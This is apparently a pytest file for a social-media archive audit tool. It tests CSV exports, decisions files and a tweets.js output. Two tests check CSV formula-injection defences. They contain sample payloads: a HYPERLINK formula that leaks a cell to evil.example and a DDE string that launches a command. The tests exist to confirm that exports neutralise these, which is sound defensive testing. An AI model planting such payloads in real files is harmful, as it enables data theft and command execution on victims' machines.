"""Exports: flagged CSV, delete/keep lists, and the tweets.js that deletion tools read."""

from __future__ import annotations

import json
import stat

import pandas as pd
import pytest

import audit
from audit.decisions import Decisions
from audit.errors import AuditError
from audit.exports import export_all, flagged_csv
from tests.helpers import DATA_SAMPLES, missing, sample_archives


@pytest.fixture(scope="module")
def scored():
    return audit.score_posts(audit.load_archives(sample_archives()))


def test_flagged_csv(scored, tmp_path):
    path = flagged_csv(scored, tmp_path / "f.csv")
    rows = pd.read_csv(path, dtype={"post_id": str})
    expected = scored[scored["is_negative"] | scored["is_overshare"]]
    assert len(rows) == len(expected)
    assert rows["risk"].is_monotonic_decreasing
    assert set(rows["post_id"]) == set(expected["post_id"])
    assert rows["why"].str.len().gt(0).all()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    masked = pd.read_csv(flagged_csv(scored, tmp_path / "m.csv", mask_pii=True))
    assert not masked["text"].str.contains("555-01", regex=False).any()


def test_flagged_csv_has_the_reason_and_the_evidence(scored, tmp_path):
    rows = pd.read_csv(flagged_csv(scored, tmp_path / "f.csv"), dtype={"post_id": str})
    columns = list(rows.columns)
    assert columns[columns.index("flags") :] == ["flags", "reason", "evidence", "why"]
    assert rows["reason"].str.len().gt(0).all() and rows["evidence"].str.len().gt(0).all()
    assert (rows["why"] == rows["reason"] + " Evidence: " + rows["evidence"]).all()
    phone = rows["text"].str.contains("555-0187", regex=False)
    assert rows.loc[phone, "reason"].str.contains("Shares a phone number ('555-0187')",
                                                  regex=False).all()
    masked = pd.read_csv(flagged_csv(scored, tmp_path / "m.csv", mask_pii=True))
    for column in ("reason", "evidence", "why"):
        assert not masked[column].str.contains("555-01", regex=False).any(), column
    people = pd.read_csv(flagged_csv(scored, tmp_path / "p.csv", mask_people=True))
    kevin = rows["text"].str.startswith("Kevin,")
    assert rows.loc[kevin, "reason"].str.startswith("Calls Kevin ").all() and kevin.any()
    for column in ("reason", "evidence", "why"):
        assert not people[column].str.contains("Kevin", regex=False).any(), column


def test_decisions_roundtrip_and_lists(scored, tmp_path):
    d = Decisions(tmp_path / "decisions.json")
    tweets = scored[scored["platform"] == "twitter"]
    delete = tweets[tweets["is_negative"]]["post_id"].head(2).tolist()
    keep = tweets[tweets["is_value_add"]]["post_id"].head(1).tolist()
    d.update([("twitter", i, "delete") for i in delete] + [("twitter", keep[0], "keep")])
    d.save()
    assert stat.S_IMODE((tmp_path / "decisions.json").stat().st_mode) == 0o600
    again = Decisions(tmp_path / "decisions.json")
    assert again.post_ids("delete") == set(delete) and again.get("twitter", keep[0]) == "keep"

    written = export_all(scored, tmp_path / "out", again, sample_archives())
    assert set(written) == {"flagged", "delete-list", "keep-list", "tweets.js"}
    dl = pd.read_csv(written["delete-list"], dtype={"post_id": str})
    assert sorted(dl["post_id"]) == sorted(delete)
    assert dl["url"].str.startswith("https://x.com/sample_dev/status/").all()
    texts = scored.set_index("post_id").loc[dl["post_id"], "text"]
    assert list(dl["text"]) == list(texts)  # to find the post again, word for word
    assert dl["created_at"].str.endswith("+00:00").all()  # the date says its zone
    js = written["tweets.js"].read_text(encoding="utf-8")
    assert js.startswith("window.YTD.tweets.part0 = [")
    tweets_out = json.loads(js.split("=", 1)[1])
    assert sorted(t["tweet"]["id_str"] for t in tweets_out) == sorted(delete)
    # The exported file is itself a valid archive file: it loads with our own importer.
    folder = tmp_path / "again" / "data"
    folder.mkdir(parents=True)
    (folder / "tweets.js").write_text(js, encoding="utf-8")
    assert sorted(audit.load_archive(folder.parent)["post_id"]) == sorted(delete)


def test_bad_decisions_file(tmp_path):
    bad = tmp_path / "decisions.json"
    bad.write_text('{"version": 1, "decisions": {"twitter:1": {"decision": "burn"}}}')
    with pytest.raises(AuditError, match=r"decisions\.json: expected a decisions file"):
        Decisions(bad)
    with pytest.raises(AuditError, match="expected a decision in"):
        Decisions().mark("twitter", "1", "burn")


def test_undecided_removes_a_mark():
    d = Decisions()
    d.mark("twitter", "1", "delete")
    d.mark("twitter", "1", "undecided")
    assert len(d) == 0 and d.get("twitter", "1") == "undecided"
    assert (DATA_SAMPLES / "twitter.zip").is_file()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_opens_as_a_formula(tmp_path, start):
    # CSV injection (OWASP): a post that begins like a formula is text we did not write
    import csv

    from audit.exports import FORMULA_STARTS

    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click") my manager is an idiot'
    posts = pd.DataFrame(
        {
            "post_id": ["1", "2"],
            "platform": ["twitter"] * 2,
            "text": [text, "fine post"],
            "kind": ["post", "post"],
            "created_at": pd.to_datetime(["2024-01-01", "2024-01-02"], utc=True),
            "url": [f"{start}cmd|' /C calc'!A0", None],
        }
    )
    scored = audit.score_posts(posts, rules_only=True)
    scored.loc[:, "is_negative"] = True  # export both, whatever the scorers say
    scored.loc[:, "why"] = [f"{start}SUM(1+1)", "ok"]
    decisions = Decisions(tmp_path / "decisions.json")
    decisions.mark("twitter", "1", "delete")
    written = export_all(scored, tmp_path / "out", decisions)
    for name in ("flagged", "delete-list"):
        with written[name].open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
    with written["flagged"].open(encoding="utf-8", newline="") as fh:
        rows = {r["post_id"]: r for r in csv.DictReader(fh)}
    assert rows["1"]["text"] == "'" + text  # shown as text, word for word
    assert rows["1"]["why"] == f"'{start}SUM(1+1)"
    assert sorted(rows) == ["1", "2"]  # ids are never changed


def test_a_spreadsheet_opens_no_cell_of_an_export_as_a_formula(tmp_path):
    """LibreOffice (headless) converts the exports to .xlsx; openpyxl then reads every cell.

    A control file shows that this reader does run a formula from a CSV cell.
    """
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None:
        missing("needs LibreOffice: apt-get install libreoffice-calc-nogui")
    openpyxl = pytest.importorskip("openpyxl")

    def cells_of(csv_path):
        subprocess.run(
            [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
             "--convert-to", "xlsx", "--outdir", str(csv_path.parent), str(csv_path)],
            check=True, capture_output=True, timeout=120,
        )
        book = openpyxl.load_workbook(csv_path.with_suffix(".xlsx"))
        return [c for row in book.active.iter_rows() for c in row]

    control = tmp_path / "control.csv"
    control.write_text("a\n=1+1\n", encoding="utf-8")
    assert [c.data_type for c in cells_of(control)] == ["s", "f"]  # the reader runs formulas

    texts = [f"{s}HYPERLINK(\"http://evil.example\",\"x\") {i}" for i, s in enumerate(
        ["=", "+", "-", "@", "\t", "\r"])]
    posts = pd.DataFrame(
        {
            "post_id": [str(i) for i in range(len(texts))],
            "platform": "twitter",
            "text": texts,
            "kind": "post",
            "created_at": pd.Timestamp("2024-01-01", tz="UTC"),
            "url": "=cmd|' /C calc'!A0",
        }
    )
    scored = audit.score_posts(posts, rules_only=True)
    scored.loc[:, "is_overshare"] = True  # export every row
    scored.loc[:, "why"] = "=SUM(1+1)"
    decisions = Decisions(tmp_path / "decisions.json")
    for i in posts["post_id"]:
        decisions.mark("twitter", i, "delete")
    written = export_all(scored, tmp_path / "out", decisions)
    for name in ("flagged", "delete-list"):
        cells = cells_of(written[name])
        assert len(cells) > len(texts)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
    text_cells = [c.value for c in cells_of(written["flagged"]) if isinstance(c.value, str)]
    assert any(v.endswith('HYPERLINK("http://evil.example","x") 0') for v in text_cells)
